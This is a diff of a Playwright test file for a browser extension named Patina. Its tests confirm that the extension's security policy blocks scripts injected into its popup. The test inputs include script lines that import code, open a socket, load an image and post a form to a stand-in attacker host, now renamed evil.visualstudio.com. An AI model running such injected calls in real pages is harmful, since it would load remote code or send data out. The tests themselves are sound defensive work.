@@ -1,8 +1,9 @@
+import type { Page } from '@playwright/test';
 import type { FaultOptions } from '../../dev-server/fault';
 import type { FaultName } from '../../dev-server/faults';
 import { isCreate } from '../../dev-server/requests';
 import { users } from '../../dev-server/tenant';
-import { installIn } from '../../scripts/launch';
+import { installIn, type Session } from '../../scripts/launch';
 import { expect, test } from './fixtures';
 import { askPatina, otherExtension } from './other-extension';
 
@@ -53,15 +54,22 @@ test('another extension gets no answer from Patina', async ({ session, shared })
   }
 });
 
-/** Tried by a script that has got into a page of the extension. A request to evil.example would fail the test by itself. */
+/** The popup in a tab: it has the same policy and the same screens, and stays where it is. */
+async function popupInTab({ context, extensionId }: Session): Promise<Page> {
+  const page = await context.newPage();
+  await page.goto(`chrome-extension://${extensionId}/src/popup/index.html`);
+  return page;
+}
+
+/** Tried by a script that has got into a page of the extension. The host is there, and would be asked. */
 const ESCAPES = {
   markup: `document.body.innerHTML = '<b>bold</b>'`,
   'a written document': `document.write('<b>bold</b>')`,
   'a function from text': `new Function('return 1')()`,
   'eval of text': `(0, eval)('1')`,
-  'an imported script': `await import('https://evil.example/x.js')`,
-  'a socket': `await new Promise((resolve, reject) => Object.assign(new WebSocket('wss://evil.example'), { onopen: resolve, onerror: reject }))`,
-  'a picture': `await new Promise((resolve, reject) => Object.assign(new Image(), { src: 'https://evil.example/x.png', onload: resolve, onerror: reject }))`,
+  'an imported script': `await import('https://evil.visualstudio.com/x.js')`,
+  'a socket': `await new Promise((resolve, reject) => Object.assign(new WebSocket('wss://evil.visualstudio.com'), { onopen: resolve, onerror: reject }))`,
+  'a picture': `await new Promise((resolve, reject) => Object.assign(new Image(), { src: 'https://evil.visualstudio.com/x.png', onload: resolve, onerror: reject }))`,
   'a worker of its own': `new Worker('data:text/javascript,1')`,
 } as const;
 
@@ -70,18 +78,19 @@ const attempt = (code: string) =>
   `(async () => { await new Promise((go) => setTimeout(go)); try { ${code}; return 'done'; } catch (error) { return 'stopped'; } })()`;
 
 test('a script that got into a page of Patina can make no markup, run no text and load nothing', async ({
+  server,
   session,
-  openPopup,
 }) => {
-  const popup = await openPopup();
+  const popup = await popupInTab(session);
   for (const [name, code] of Object.entries(ESCAPES)) expect(await popup.evaluate(attempt(code)), name).toBe('stopped');
   const form = `new Promise((resolve) => {
     addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
-    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+    const form = Object.assign(document.createElement('form'), { action: 'https://evil.visualstudio.com/', method: 'post' });
     document.body.append(form);
     form.submit();
   })`;
   expect(await popup.evaluate(form)).toBe('form-action');
+  expect(server.requests.filter(({ host }) => host.startsWith('evil'))).toEqual([]);
 
   // The control: where there is no such policy, the same is done.
   const blank = await session.context.newPage();
@@ -110,11 +119,11 @@ const REFRESH = `chrome.runtime.sendMessage({ name: 'tokens.refresh', input: { h
 
 test('whoever leads away, floods or nests an answer is told in a sentence, and nobody is followed', async ({
   server,
+  session,
   signIn,
-  openPopup,
 }) => {
   await signIn();
-  const popup = await openPopup();
+  const popup = await popupInTab(session);
   await expect(popup.getByRole('listitem').first()).toBeVisible();
   await popup.evaluate(REFRESH); // the first waits for the reading that the popup has begun
   for (const [fault, options, sentence] of ASTRAY) {
@@ -144,11 +153,11 @@ test('whoever leads away, floods or nests an answer is told in a sentence, and n
 
 test('a secret that is hidden again is nowhere in the page, nor in what is read aloud; Done forgets it', async ({
   server,
+  session,
   signIn,
-  openPopup,
 }) => {
   await signIn();
-  const popup = await openPopup();
+  const popup = await popupInTab(session);
   await popup.getByRole('button', { name: 'Push code' }).click();
   await popup.getByRole('button', { name: 'Show token' }).click();
   const secret = server.ledger.ofUser(users.normal.id).at(-1)?.secret ?? 'none';
